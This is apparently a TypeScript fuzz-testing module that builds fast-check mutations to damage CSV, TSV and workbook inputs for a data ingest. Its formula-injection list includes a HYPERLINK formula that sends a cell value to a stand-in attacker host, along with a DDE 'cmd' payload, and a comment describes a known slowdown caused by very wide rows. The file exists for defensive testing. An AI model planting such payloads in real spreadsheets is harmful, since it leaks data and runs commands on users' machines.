// Ways a real input goes wrong, as fast-check arbitraries: each takes the original bytes and gives
// a damaged copy. Mutations compose, so one input may be cut, re-encoded and given a formula.
import fc from 'fast-check'

export type Mutation = (input: Buffer) => Buffer

const lines = (b: Buffer) => b.toString('utf8').split(/(?<=\n)/)
const join = (ls: string[]) => Buffer.from(ls.join(''), 'utf8')

const flipBytes = fc
  .array(fc.tuple(fc.nat(), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 20 })
  .map(
    (flips): Mutation =>
      (input) => {
        const out = Buffer.from(input)
        for (const [at, mask] of flips)
          if (out.length) out[at % out.length] = (out[at % out.length] as number) ^ mask
        return out
      },
  )

const cut = fc.double({ min: 0, max: 1, noNaN: true }).map(
  (share): Mutation =>
    (input) =>
      input.subarray(0, Math.floor(input.length * share)),
)

const shuffleRows = fc.tuple(fc.boolean(), fc.array(fc.nat(), { minLength: 2, maxLength: 200 })).map(
  ([keepHeader, swaps]): Mutation =>
    (input) => {
      const ls = lines(input)
      const from = keepHeader ? 1 : 0
      for (let i = 0; i + 1 < swaps.length && ls.length - from > 1; i += 2) {
        const a = from + ((swaps[i] as number) % (ls.length - from))
        const b = from + ((swaps[i + 1] as number) % (ls.length - from))
        ;[ls[a], ls[b]] = [ls[b] as string, ls[a] as string]
      }
      return join(ls)
    },
)

const duplicateRows = fc.array(fc.nat(), { minLength: 1, maxLength: 50 }).map(
  (picks): Mutation =>
    (input) => {
      const ls = lines(input)
      for (const p of picks) if (ls.length) ls.splice(p % ls.length, 0, ls[p % ls.length] as string)
      return join(ls)
    },
)

const wrongEncoding = fc.constantFrom('utf16le', 'utf16le-bom', 'latin1', 'bom', 'double-utf8').map(
  (how): Mutation =>
    (input) => {
      const text = input.toString('utf8')
      if (how === 'utf16le') return Buffer.from(text, 'utf16le')
      if (how === 'utf16le-bom')
        return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
      if (how === 'latin1') return Buffer.from(text, 'latin1')
      if (how === 'bom') return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), input])
      return Buffer.from(Buffer.from(text, 'utf8').toString('latin1'), 'utf8')
    },
)

/** Text put into a random cell of a random row (after a comma or tab, or at the line's start). */
const intoCell = (texts: fc.Arbitrary<string>) =>
  fc.tuple(fc.nat(), fc.nat(), texts).map(
    ([row, cell, text]): Mutation =>
      (input) => {
        const ls = lines(input)
        if (!ls.length) return Buffer.from(text)
        const at = row % ls.length
        const line = ls[at] as string
        const seps = [...line.matchAll(/[,\t]/g)].map((m) => (m.index ?? 0) + 1)
        const pos = seps.length ? (seps[cell % seps.length] as number) : 0
        ls[at] = line.slice(0, pos) + text + line.slice(pos)
        return join(ls)
      },
  )

// Up to 200,000 characters in one cell, and rows of up to 2,000 extra fields. Rows far wider
// than that (tens of thousands of fields) keep the crime ingest busy for minutes: a known
// problem recorded in docs/fuzzing.md, left out here so a run finishes.
const HUGE_CELL_MAX = 200_000
const WIDE_ROW_MAX = 2_000

const hugeCell = intoCell(
  fc
    .tuple(fc.constantFrom('A', 'é', '"', ' '), fc.integer({ min: 10_000, max: HUGE_CELL_MAX }))
    .map(([c, n]) => c.repeat(n)),
)

const wideRow = intoCell(
  fc
    .tuple(fc.constantFrom(',', '\t', ',"x"'), fc.integer({ min: 50, max: WIDE_ROW_MAX }))
    .map(([sep, n]) => `x${sep}`.repeat(n)),
)

const formula = intoCell(
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|'/C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    "'=already",
    '=1/0',
    '\t=x',
    '\r=x',
  ),
)

const controlChars = intoCell(
  fc
    .array(
      fc.constantFrom(
        '\u0000',
        '\u0001',
        '\u001b',
        '\r',
        '\n',
        '\u2028',
        '\ufeff',
        '\ufffd',
        '"',
        '\u202e',
        '\ud800',
      ),
      { minLength: 1, maxLength: 8 },
    )
    .map((cs) => cs.join('')),
)

/** Mutations of text (CSV, TSV): every kind, one to three at a time. */
export const textMutations = fc
  .array(
    fc.oneof(
      flipBytes,
      cut,
      shuffleRows,
      duplicateRows,
      wrongEncoding,
      hugeCell,
      wideRow,
      formula,
      controlChars,
    ),
    { minLength: 1, maxLength: 3 },
  )
  .map(
    (ms): Mutation =>
      (input) =>
        ms.reduce((b, m) => m(b), input),
  )

/** Mutations of the workbook's bytes themselves: the ZIP damaged rather than the cells. */
export const byteMutations = fc.array(fc.oneof(flipBytes, cut), { minLength: 1, maxLength: 2 }).map(
  (ms): Mutation =>
    (input) =>
      ms.reduce((b, m) => m(b), input),
)
